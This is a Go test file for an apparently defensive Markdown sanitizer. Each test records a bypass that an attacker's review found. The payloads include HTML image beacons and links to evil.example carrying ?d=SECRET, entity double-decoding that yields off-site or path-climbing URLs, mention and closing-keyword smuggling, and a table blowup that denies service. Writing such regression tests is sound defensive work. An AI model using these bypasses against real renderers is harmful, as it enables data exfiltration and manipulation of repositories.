package inert_test

import (
	"bytes"
	stdhtml "html"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/pullwright/pullwright/inert"
)

// Ways through the filter an attacker's review found (issue 41), each
// kept as a test: they failed on the code they were written against.

// An ordered list the writer renumbers past nine digits: CommonMark (and
// cmark-gfm, GitHub's renderer) reads "1000000000." as text, so the item's
// code block is no longer a code block and its content, kept byte for byte,
// lands in the first item as raw HTML: an image fetched when the page is
// opened, or an unclosed comment that hides everything after it.
func TestAttackListNumberOverflow(t *testing.T) {
	ind := strings.Repeat(" ", 11)
	for name, payload := range map[string]string{
		"image":            `<img src="https://evil.example/?d=SECRET">`,
		"unclosed comment": "<!--",
	} {
		t.Run(name, func(t *testing.T) {
			check(t, "999999999. a\n999999999. ```\n"+ind+payload+"\n"+ind+"```")
		})
	}
}

// A mention is rebuilt from pieces: text that ends in "@" followed by a
// node the writer shows as plain text (a link or an image it refuses, a
// nested strikethrough it flattens, paragraphs of a list nested deeper than
// maxDepth).
func TestAttackMentionByAdjacency(t *testing.T) {
	q := strings.Repeat(">", 16)
	for name, s := range map[string]string{
		"refused link":  "cc @[alice](https://evil.example/)",
		"refused image": "cc @![alice](https://evil.example/x.png)",
		"nested strike": "~~a @~~alice~~ b~~",
		"deep list":     q + " - @\n" + q + "\n" + q + "   alice",
		"team via link": "cc @[org/team](https://evil.example/)",
	} {
		t.Run(name, func(t *testing.T) { check(t, s) })
	}
}

// A closing keyword kept in front of a reference the writer does not see
// as following it: after an image's text, inside emphasis, on the next line.
// (check's own test of closing keywords reads the source, where the
// writer's "\#3" hides the reference: here the text is read as shown.)
func TestAttackClosingKeyword(t *testing.T) {
	for name, s := range map[string]string{
		"refused image":         "fixes ![#3](https://evil.example/x.png)",
		"emphasis":              "fixes *#3*",
		"soft break":            "fixes\n#3",
		"hard break":            "fixes\\\n#3",
		"link on the next line": "fixes\n[#3](https://github.com/acme/widget/issues/3)",
		"control":               "fixes #3",
	} {
		t.Run(name, func(t *testing.T) {
			out := check(t, s)
			if m := shownClosing.FindString(shown(t, out)); m != "" {
				t.Errorf("Markdown(%q) = %q shows %q", s, out, m)
			}
		})
	}
}

var shownClosing = regexp.MustCompile(`(?i)\b(close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s+((?:[\w.-]+/[\w.-]+)?#\d|https?://)`)

// shown is the text a reader sees of out, code left out.
func shown(t *testing.T, out string) string {
	var b bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(out), &b); err != nil {
		t.Fatal(err)
	}
	h := regexp.MustCompile(`(?s)<code>.*?</code>`).ReplaceAllString(b.String(), " ")
	h = regexp.MustCompile(`<[^>]*>`).ReplaceAllString(h, "")
	return stdhtml.UnescapeString(h)
}

// cmark-gfm's autolink extension (extensions/autolink.c, url_match) links
// "https://" wherever the letters before the ':' are a safe scheme: it
// rewinds over ASCII letters only and never looks at the character before
// them. So "1https://host" is a link on GitHub; goldmark does not link it
// and the filter's bareLink needs a \b, which a digit before "https"
// does not give ("a_https" is the control: goldmark links it). Emulated here: any scheme in text outside code spans and
// links, preceded by anything but a letter, is a link on GitHub.
func TestAttackBareLinkAfterDigit(t *testing.T) {
	for _, s := range []string{
		"see 1https://evil.example/?d=SECRET",
		"see x1https://evil.example/?d=SECRET",
		"see a_https://evil.example/?d=SECRET",
	} {
		out := check(t, s)
		for _, l := range githubBareLinks(out) {
			if !gh.Allows(l) {
				t.Errorf("Markdown(%q) = %q: GitHub links %q", s, out, l)
			}
		}
	}
}

var cmarkURL = regexp.MustCompile(`(?i)(?:^|[^a-z])((?:https?|ftp)://[^\s<]+)`)

// githubBareLinks are the addresses cmark-gfm would autolink in out's text
// (code spans, code blocks and links left out).
func githubBareLinks(out string) []string {
	src := []byte(out)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(src))
	var found []string
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.CodeSpan, *ast.FencedCodeBlock, *ast.CodeBlock, *ast.Link, *ast.AutoLink:
			return ast.WalkSkipChildren, nil
		case *ast.Text:
			for _, m := range cmarkURL.FindAllStringSubmatch(string(n.Segment.Value(src)), -1) {
				found = append(found, strings.TrimRight(m[1], ".,:;!?*_~'\")"))
			}
		}
		return ast.WalkContinue, nil
	})
	return found
}

// A destination is checked as the writer decoded it, then written without
// escaping '&': GitHub decodes the character reference a second time. A
// relative "/&#47;host" becomes "//host", a link to another site; an
// attachment link gets a path that climbs out of /user-attachments/assets/.
// Checked here on the rendered HTML, as a browser reads it.
func TestAttackEntityInDestination(t *testing.T) {
	for _, s := range []string{
		"[x](/&amp;#47;evil.example/?d=SECRET)",
		"[x](/&amp;sol;evil.example/?d=SECRET)",
		"[x](/&amp;bsol;evil.example/?d=SECRET)",
		"[x](/&amp;Tab;/evil.example/?d=SECRET)",
		"![x](https://github.com/user-attachments/assets/x&amp;#x2f;..&amp;#x2f;..&amp;#x2f;acme/widget/raw/main/x.png)",
	} {
		out := check(t, s)
		var html bytes.Buffer
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(out), &html); err != nil {
			t.Fatal(err)
		}
		for _, m := range regexp.MustCompile(`(href|src)="([^"]*)"`).FindAllStringSubmatch(html.String(), -1) {
			// A browser drops tabs and reads '\' as '/' in an http(s) URL.
			u := strings.NewReplacer("&amp;", "&", "%09", "", "%5C", "/").Replace(m[2])
			ok := gh.Allows(u)
			if m[1] == "src" {
				ok = gh.AllowsImage(u) && !strings.Contains(u, "/../")
			}
			if !ok {
				t.Errorf("Markdown(%q) = %q: the browser gets %s=%q", s, out, m[1], u)
			}
		}
	}
}

// A table's rows are padded to the header's width by the parser: an 8 KiB
// text of a 1000-column header and 2000 one-character rows parses to two
// million cells (over a second here; a 32 KiB one took 52 s and wrote
// 96 MB). The output is bounded here rather than the time.
func TestAttackTableBlowup(t *testing.T) {
	const cols = 1000
	s := "|" + strings.Repeat("a|", cols) + "\n|" + strings.Repeat("-|", cols) + "\n" + strings.Repeat("x\n", 2*cols)
	out := inert.Markdown(s, gh)
	if len(out) > 8*len(s)+1024 {
		t.Errorf("a %d-byte table became %d bytes", len(s), len(out))
	}
}

// The zero Hosts (a clone address with user info, an SSH remote, an unset
// GITHUB_SERVER_URL) has web == "", which an https address with no host
// matches: browsers read "https:/host" and "https:///host" as https://host.
func TestAttackZeroHostsEmptyHost(t *testing.T) {
	for _, repo := range []string{"", "git@github.com:acme/widget.git", "https://x-access-token:t@github.com/acme/widget.git"} {
		h := inert.GitHub(repo)
		for _, d := range []string{"https:/evil.example/?d=1", "https:///evil.example/?d=1"} {
			if h.Allows(d) {
				t.Errorf("GitHub(%q).Allows(%q) = true", repo, d)
			}
		}
	}
}
